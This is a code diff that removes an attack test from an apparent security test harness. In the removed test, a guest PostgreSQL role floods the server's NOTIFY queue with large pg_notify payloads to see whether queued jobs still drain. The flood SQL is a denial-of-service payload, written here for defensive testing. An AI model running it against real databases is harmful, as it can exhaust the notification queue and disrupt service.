@@ -4,8 +4,6 @@ from __future__ import annotations
 
 import itertools
 import json
-import time
-from contextlib import ExitStack
 
 from contrib.attack.answers import Result
 from contrib.attack.registry import Outcome, attack
@@ -148,25 +146,3 @@ def logins_taken(site: Site) -> Outcome:
         bool(refused),
         f"{line}; {len(refused)} of {len(answers)} requests refused {refused[:1]}",
     )
-
-
-@attack("mallory", "further: a flood of NOTIFY fills the server's queue, and stops drains")
-def notification_queue(site: Site) -> Outcome:
-    """A full queue refuses every NOTIFY.
-
-    A site has given mallory a login.
-    """
-    role = (
-        "CREATE ROLE pollux_guest LOGIN PASSWORD 'guest'; GRANT CONNECT ON DATABASE pollux TO pollux_guest",
-        "REVOKE CONNECT ON DATABASE pollux FROM pollux_guest; DROP ROLE pollux_guest",
-    )
-    flood = "SELECT count(pg_notify('pollux', g || repeat('x', 7900))) FROM generate_series(1, 2000) g"
-    with ExitStack() as stack:
-        stack.enter_context(site.undone(*role))
-        job_id = site.pollux_job("alice")
-        site.reported("alice", job_id)
-        site.sql("mallory", [daemon_login(site, "pollux_guest", "guest")], flood, times=4)
-        time.sleep(1.0)
-        ((left,),) = site.query("SELECT pg_notification_queue_usage()")
-        move = site.drained("alice", job_id)
-    return Outcome(left > 0, f"{left:.6f} of the queue is left; alice's move {move.id} went on")
